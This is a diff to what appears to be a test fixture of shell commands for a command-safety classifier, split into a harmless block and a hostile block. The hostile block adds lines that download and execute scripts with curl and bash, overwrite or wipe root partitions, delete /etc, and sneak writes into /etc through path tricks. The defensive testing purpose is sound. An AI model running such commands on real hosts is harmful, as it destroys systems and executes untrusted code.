@@ -130,6 +130,16 @@ export const harmless = blocks`
     	EOF
     ulimit -n 65536
 
+    wait -n; jobs -p; iptables-save -c > /var/log/rules; gzip -9 /var/log/old.log
+    systemctl daemon-reload && systemctl restart kubelet
+    for each in $(lsblk -dno NAME); do
+      if [ -z "$(lsblk -no FSTYPE /dev/$each)" ]; then mkfs.xfs "/dev/$each"; fi
+    done
+    mount LABEL=data /data; chown ops:ops /data/cache
+    nft add table inet x; nvme list; nvidia-smi -i 0 -mig 1; iptables -t nat -A OUTPUT -m owner --uid-owner 0 -j ACCEPT
+    aws ec2 create-volume --size 10 --availability-zone eu-west-1a; iscsi-iname > /opt/iqn
+    find /tmp -name '*.old' -print0 | xargs -0 -I{} echo {}
+
     fallocate -l 1G /swapfile && chmod 600 /swapfile && mkswap /swapfile && swapon /swapfile
     echo '/swapfile none swap sw 0 0' >> /etc/fstab
     timedatectl set-timezone UTC; date -u +%FT%TZ > /var/log/first-boot-$(date +%s).log
@@ -290,6 +300,25 @@ echo "$UNIT" > /etc/systemd/system/x.service
 chmod -R 777 /
 rm -rf /etc
 iptables --modprobe=/tmp/x -L
+jobs -x bash /tmp/x
+iptables-save -f /etc/x
+iptables-save -M /tmp/x
+pvs --config 'global{lvdisplay_shows_full_device_path=1}'
+file -C -m /tmp/x
+getconf -v POSIX_V7_LP64_OFF64 PATH
+echo ls > /opt/x.sh; curl -o /opt/x.sh.gz x; gunzip -f /opt/x.sh.gz; bash /opt/x.sh
+echo ls > /opt/x.sh; cp /tmp/x /opt/x.sh; gzip -f /opt/x.sh; gzip -df /opt/x.sh.gz; bash /opt/x.sh
+echo ls > /opt/x.sh; curl -o /opt/x.sh.xz x; xz -d -f /opt/x.sh.xz; bash /opt/x.sh
+echo ls > /opt/x.sh; curl -o /opt/x.sh.bz2 x; bunzip2 -f /opt/x.sh.bz2; bash /opt/x.sh
+X=/tmp; wait -p X; echo y > $X/etc/y
+dd if=/tmp/x of=/dev/disk/by-partlabel/root
+wipefs -a /dev/disk/by-label/root
+mount LABEL=/ /mnt/x; rm -rf /mnt/x/etc
+X=$(date +/etc); echo y > $X/y
+X=$(ls -a / | head -2 | tail -1); echo y > /tmp/$X/etc/y
+X=$(stat -c /etc /tmp); echo y > $X/y
+X=$(date +.); echo y > /tmp/$X$X/etc/y
+aws ec2 describe-instances --endp http://example.com
 cat > /tmp/x <<E${'\r'}
 while true; do echo "unfinished"
 echo x |& tee /tmp/x
@@ -303,7 +332,6 @@ echo '{}' > /etc/kubernetes/kubelet/config.json.d/99.conf
 cp /tmp/x /etc/kubernetes/kubelet/config.json
 mkdir -p /etc/systemd/system/kubelet.service.d
 printf '[Service]\nEnvironment=X=y\n' > /etc/systemd/system/kubelet.service.d/x.conf
-systemctl restart kubelet
 systemctl stop kubelet.service
 cat > /etc/eks/nodeadm.d/x.yaml <<< 'x'
 nodeadm init -c file:///tmp/x
